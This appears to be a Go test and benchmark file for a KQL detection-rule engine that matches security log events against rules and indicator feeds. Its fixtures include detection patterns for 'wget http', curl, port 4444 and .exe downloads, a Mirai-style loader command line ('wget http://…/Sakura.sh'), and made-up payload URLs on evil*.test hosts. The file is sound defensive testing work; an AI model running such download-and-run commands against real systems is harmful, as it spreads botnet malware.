package kql

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/matchd/matchd/matcher"
)

func mustCompile(t testing.TB, feeds *matcher.Set, src string) *Rules {
	t.Helper()
	r, err := Compile(Options{Feeds: feeds}, Source{"t.kql", []byte(src)})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func event(t matcher.Table, kv ...string) *matcher.Event {
	e := &matcher.Event{Table: t}
	for i := 0; i < len(kv); i += 2 {
		if f := matcher.LookupField([]byte(kv[i])); f != matcher.FieldNone {
			e.Set(f, []byte(kv[i+1]))
		} else {
			e.Extra = append(e.Extra, matcher.KV{Name: []byte(kv[i]), Value: []byte(kv[i+1])})
		}
	}
	return e
}

// TestNoAllocs checks that matching a record that no rule selects does not
// allocate, whichever lookups the rules need (address, automaton, exact and
// case-insensitive values, Extra columns) and with full-scan rules that
// evaluate numbers, searches and ranges on every record; and that writing
// an alert into a buffer with room does not either.
func TestNoAllocs(t *testing.T) {
	mirai, err := os.ReadFile("../../testdata/rules/mirai.kql")
	if err != nil {
		t.Fatal(err)
	}
	src := string(mirai) + `
DeviceNetworkEvents | where DeviceName in ("host-1", "host-2") or DeviceName in~ ("Build-9") or Tenant == "t-1"
DeviceNetworkEvents | where RemotePort > 60000 and not(InitiatingProcessCommandLine has "curl") and isnotempty(Tenant)
DeviceNetworkEvents | where InitiatingProcessCommandLine contains "wget http" and ipv4_is_in_range(LocalIP, "10.0.0.0/8")
DeviceNetworkEvents | where not(ipv4_is_in_range(LocalIP, dynamic(["10.1.0.0/16", "10.2.0.0/16", "10.3.0.0/16", "10.4.0.0/16", "10.5.0.0/16", "10.6.0.0/16", "10.7.0.0/16", "10.8.0.0/16", "10.9.0.0/16"]))) and RemotePort == 4444
CommonSecurityLog | where RequestURL startswith "ftp://" or RequestURL endswith ".exe"
`
	feeds := genFeeds(t, 0)
	r := mustCompile(t, feeds, src+"UrlClickEvents | where Url has_any (matchd_urls)\n")
	ev := NewEvaluator(r)
	for _, e := range []*matcher.Event{
		event(matcher.DeviceNetworkEvents, "RemoteIP", "8.8.8.8", "RemotePort", "443", "DeviceName", "Laptop-7", "LocalIP", "10.4.0.5",
			"InitiatingProcessCommandLine", "C:\\Program Files\\Browser\\browser.exe --type=renderer", "Tenant", "t-2"),
		event(matcher.CommonSecurityLog, "SourceIP", "10.0.0.5", "DestinationIP", "93.184.216.34", "RequestURL", "https://example.com/index.html"),
		event(matcher.UrlClickEvents, "Url", "https://www.contoso.com/benefits?id=42", "AccountUpn", "j.doe@contoso.com"),
	} {
		if n := len(ev.Match(e)); n != 0 {
			t.Fatalf("%s: %d matches, want none", e.Table, n)
		}
		if a := testing.AllocsPerRun(200, func() { ev.Match(e) }); a != 0 {
			t.Errorf("%s: Match allocates %.1f times per record", e.Table, a)
		}
	}
	hit := event(matcher.DeviceNetworkEvents, "RemoteIP", "176.65.139.126", "RemotePort", "2701", "DeviceName", "cam-gw-03",
		"Timestamp", "2026-06-07T11:00:00Z", "InitiatingProcessCommandLine", "wget http://176.65.139.151/Sakura.sh")
	ids := ev.Match(hit)
	if len(ids) == 0 {
		t.Fatal("the hit matches no rule")
	}
	o := matcher.Origin{Path: "a.json", Line: 7}
	buf := make([]byte, 0, 64<<10)
	if a := testing.AllocsPerRun(200, func() {
		ev.Match(hit)
		b := buf[:0]
		for _, id := range ev.Match(hit) {
			b = r.AppendSortKey(b, hit, id)
			b = ev.AppendAlert(b, id, &o)
		}
	}); a != 0 {
		t.Errorf("matching and writing a hit allocates %.1f times", a)
	}
}

// benchCorpus is a synthetic stream shaped like the bench corpus: the
// three tables in turn, noise from address and host spaces that no rule
// literal or indicator uses, and a hit (an IP or URL from lits) in one
// record of hitEvery.
type benchCorpus struct {
	events []*matcher.Event
	hits   int
}

func newBenchCorpus(n, hitEvery int, ips, urls []string) *benchCorpus {
	r := rand.New(rand.NewPCG(1, 2))
	c := &benchCorpus{}
	for i := range n {
		noiseIP := fmt.Sprintf("10.%d.%d.%d", r.IntN(256), r.IntN(256), 1+r.IntN(254))
		noiseURL := fmt.Sprintf("https://www.site%d.example.com/path/%d/page.html?id=%d&ref=mail", r.IntN(5000), r.IntN(100000), r.IntN(1<<30))
		hit := hitEvery > 0 && i%hitEvery == hitEvery/2
		var e *matcher.Event
		switch i % 3 {
		case 0:
			dst, url := "198.18."+fmt.Sprint(r.IntN(256))+"."+fmt.Sprint(r.IntN(256)), noiseURL
			if hit && i%2 == 0 {
				dst = ips[r.IntN(len(ips))]
			} else if hit {
				url = urls[r.IntN(len(urls))] + "?x=1"
			}
			e = event(matcher.CommonSecurityLog, "TimeGenerated", "2026-06-07T10:00:00Z", "SourceIP", noiseIP, "DestinationIP", dst,
				"SourcePort", "51514", "DestinationPort", "443", "DeviceAction", "allow", "Activity", "Traffic allowed",
				"RequestURL", url, "DeviceVendor", "Palo Alto Networks", "DeviceProduct", "PAN-OS")
		case 1:
			remote := "198.19." + fmt.Sprint(r.IntN(256)) + "." + fmt.Sprint(r.IntN(256))
			if hit {
				remote = ips[r.IntN(len(ips))]
			}
			e = event(matcher.DeviceNetworkEvents, "Timestamp", "2026-06-07T11:00:00Z", "DeviceName", fmt.Sprintf("laptop-%d", r.IntN(1000)),
				"ActionType", "ConnectionSuccess", "RemoteIP", remote, "RemotePort", "443", "RemoteUrl", noiseURL, "LocalIP", noiseIP,
				"LocalPort", "50000", "InitiatingProcessFileName", "browser.exe",
				"InitiatingProcessCommandLine", `"browser.exe" --single-argument `+noiseURL, "InitiatingProcessAccountName", "j.doe")
		default:
			url := noiseURL
			if hit {
				url = urls[r.IntN(len(urls))]
			}
			e = event(matcher.UrlClickEvents, "Timestamp", "2026-06-08T08:12:40Z", "Url", url, "AccountUpn", "j.doe@contoso.com",
				"ActionType", "ClickAllowed", "IsClickedThrough", "true", "UrlChain", `["`+url+`"]`)
			e.Chain = append(e.Chain, []byte(url))
		}
		if hit {
			c.hits++
		}
		c.events = append(c.events, e)
	}
	return c
}

// benchLiterals returns n IPs and n URLs that noise never contains.
func benchLiterals(n int) (ips, urls []string) {
	for i := range n {
		ips = append(ips, fmt.Sprintf("203.%d.%d.%d", i>>16&255, i>>8&255, i&255))
		urls = append(urls, fmt.Sprintf("http://evil%d.test/payload/%d.sh", i, i*7))
	}
	return ips, urls
}

// benchRuleSource writes n rules of per literals each, cycling through
// shapes that cover the fields feeds match: the seed's IP hunts on
// CommonSecurityLog and DeviceNetworkEvents (this one with the backup
// exclusion), and URL hunts on each table's URL columns.
func benchRuleSource(n, per int, ips, urls []string) string {
	var b strings.Builder
	list := func(from []string, i int) string {
		var q []string
		for j := range per {
			q = append(q, quote(from[(i*per+j)%len(from)]))
		}
		return "dynamic([" + strings.Join(q, ", ") + "])"
	}
	for i := range n {
		fmt.Fprintf(&b, "// rule %d\nlet l = %s;\n", i, list(ips, i))
		switch i % 6 {
		case 0, 2:
			b.WriteString("CommonSecurityLog | where DestinationIP in (l) or SourceIP in (l)\n")
		case 1, 3:
			b.WriteString("DeviceNetworkEvents | where RemoteIP in (l) and not(InitiatingProcessFileName in~ (\"tar\", \"rsync\") and InitiatingProcessCommandLine has_any (\"backup\", \"archive\"))\n")
		case 4:
			fmt.Fprintf(&b, "UrlClickEvents | where Url has_any (%s) or UrlChain has_any (%[1]s)\n", list(urls, i))
		case 5:
			col := "RequestURL"
			if i%12 == 11 {
				col = "RemoteUrl"
				b.WriteString("DeviceNetworkEvents")
			} else {
				b.WriteString("CommonSecurityLog")
			}
			fmt.Fprintf(&b, " | where %s has_any (%s)\n", col, list(urls, i))
		}
	}
	return b.String()
}

func benchMatchRules(b *testing.B, r *Rules, c *benchCorpus) {
	ev := NewEvaluator(r)
	b.ReportAllocs()
	matched := 0
	for b.Loop() {
		matched = 0
		for _, e := range c.events {
			matched += len(ev.Match(e))
		}
	}
	if r.Len() >= 100 && matched == 0 {
		b.Fatal("no rule matched")
	}
	b.ReportMetric(float64(len(c.events))*float64(b.N)/b.Elapsed().Seconds(), "records/s")
}

// BenchmarkRules measures records/s with 0, 1, 100 and 1000 generated
// rules of 10 literals each.
func BenchmarkRules(b *testing.B) {
	ips, urls := benchLiterals(20000)
	c := newBenchCorpus(30000, 200, ips[:10000], urls[:10000])
	for _, n := range []int{0, 1, 100, 1000} {
		r := mustCompile(b, nil, benchRuleSource(n, 10, ips, urls))
		b.Run(fmt.Sprintf("rules=%d", n), func(b *testing.B) { benchMatchRules(b, r, c) })
	}
}

// BenchmarkRuleScaling prints the cost of 1, 100 and 1000 rules relative
// to none: the prefilter keeps the per-record cost flat as rules grow. Each
// iteration matches the corpus once per rule count, interleaved so that
// machine noise hits them alike.
func BenchmarkRuleScaling(b *testing.B) {
	ips, urls := benchLiterals(20000)
	c := newBenchCorpus(30000, 200, ips[:10000], urls[:10000])
	counts := []int{0, 1, 100, 1000}
	evs := make([]*Evaluator, len(counts))
	for i, n := range counts {
		evs[i] = NewEvaluator(mustCompile(b, nil, benchRuleSource(n, 10, ips, urls)))
	}
	spent := make([]time.Duration, len(counts))
	for b.Loop() {
		for i, ev := range evs {
			start := time.Now()
			for _, e := range c.events {
				ev.Match(e)
			}
			spent[i] += time.Since(start)
		}
	}
	records := float64(len(c.events) * b.N)
	for i, n := range counts {
		per := float64(spent[i].Nanoseconds()) / records
		b.Logf("rules=%-5d %7.1f ns/record  %6.2fM records/s  %5.2fx no rules", n, per, 1e3/per, float64(spent[i])/float64(spent[0]))
	}
	b.ReportMetric(float64(spent[3])/float64(spent[0]), "1000rules/none")
}

// BenchmarkRulesVsFeeds compares 1000 rules of 100 list entries each with
// the same 100,000 indicators loaded as a feed (matcher.Set), on the same
// records, and reports the ratio (the target is at most 1.3).
func BenchmarkRulesVsFeeds(b *testing.B) {
	ips, urls := benchLiterals(100000)
	src := benchRuleSource(1000, 100, ips, urls)
	r := mustCompile(b, nil, src)
	// The feed holds exactly the rules' literals.
	var inds []matcher.Indicator
	seen := map[string]bool{}
	for _, l := range r.leafs {
		if !l.trigger {
			continue
		}
		for _, e := range l.entries {
			if seen[e.lit] {
				continue
			}
			seen[e.lit] = true
			in := matcher.Indicator{Value: e.lit, Confidence: matcher.NoConfidence}
			if a, err := netip.ParseAddr(e.lit); err == nil {
				in.Type, in.Addr = matcher.TypeIP, a
			} else {
				in.Type = matcher.TypeURL
			}
			inds = append(inds, in)
		}
	}
	set, err := matcher.Compile(inds, matcher.Config{})
	if err != nil {
		b.Fatal(err)
	}
	c := newBenchCorpus(30000, 200, ips, urls)
	sc := matcher.NewScanner(set)
	ev := NewEvaluator(r)
	var feedT, ruleT time.Duration
	b.ReportAllocs()
	for b.Loop() {
		start := time.Now()
		for _, e := range c.events {
			sc.Match(e)
		}
		feedT += time.Since(start)
		start = time.Now()
		for _, e := range c.events {
			ev.Match(e)
		}
		ruleT += time.Since(start)
	}
	records := float64(len(c.events) * b.N)
	feedNs, ruleNs := float64(feedT.Nanoseconds())/records, float64(ruleT.Nanoseconds())/records
	b.Logf("%d indicators: feed %.1f ns/record, %d rules %.1f ns/record: ratio %.2f (target <= 1.3)",
		len(inds), feedNs, r.Len(), ruleNs, ruleNs/feedNs)
	b.ReportMetric(ruleNs/feedNs, "rules/feeds")
}
